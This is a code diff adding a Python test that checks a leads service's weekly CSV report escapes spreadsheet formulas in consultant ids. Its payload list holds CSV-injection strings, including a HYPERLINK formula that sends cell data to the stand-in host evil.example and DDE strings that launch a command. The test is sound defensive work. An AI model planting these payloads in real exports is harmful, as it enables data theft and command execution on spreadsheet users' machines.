@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import uuid
 from datetime import UTC, datetime, timedelta
 
@@ -86,3 +88,37 @@ async def test_a_week_is_an_iso_week(leads, settings) -> None:
     for bad in ("2026-W60", "26-W01", "2026W01"):
         r = await leads.client.get(f"/v1/projects/{pid}/reports/weekly", params={"week": bad}, headers=manager)
         assert r.status_code == 422 and r.json()["error"]["code"] == "invalid_week"
+
+
+HOSTILE_STAFF = (
+    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+async def test_the_weekly_csv_writes_staff_text_as_text_never_a_formula(leads, settings) -> None:
+    """Issue 19: a consultant id is whatever the token or a manager's assignment said; in the CSV a cell that a
+    spreadsheet would run gets a leading quote, and the week's counts stay numbers."""
+    pid = str(uuid.uuid4())
+    for sub in HOSTILE_STAFF:
+        await register(leads, settings, pid, sub)
+    moved = (await register(leads, settings, pid, "c-a")).json()["id"]
+    manager = auth(settings, "manager", pid)
+    assigned = await leads.client.post(
+        f"/v1/customers/{moved}/assign",
+        json={"consultant_id": "-2+3+cmd|' /C calc'!A0", "reason": "r"},
+        headers=manager,
+    )
+    assert assigned.status_code == 200, assigned.text
+    await _all_on(leads, pid, WEDNESDAY)
+    answer = await leads.client.get(
+        f"/v1/projects/{pid}/reports/weekly", params={"week": "2026-W10"}, headers=manager | {"Accept": "text/csv"}
+    )
+    header, *lines = list(csv.reader(io.StringIO(answer.text, newline="")))
+    rows = {line[0]: dict(zip(header, line, strict=True)) for line in lines}
+    expected = {"'" + sub for sub in (*HOSTILE_STAFF, "-2+3+cmd|' /C calc'!A0")}
+    assert set(rows) == expected, sorted(rows)
+    assert all(row["new_customers"] == "1" and row["within_3_rings_rate"] == "" for row in rows.values())
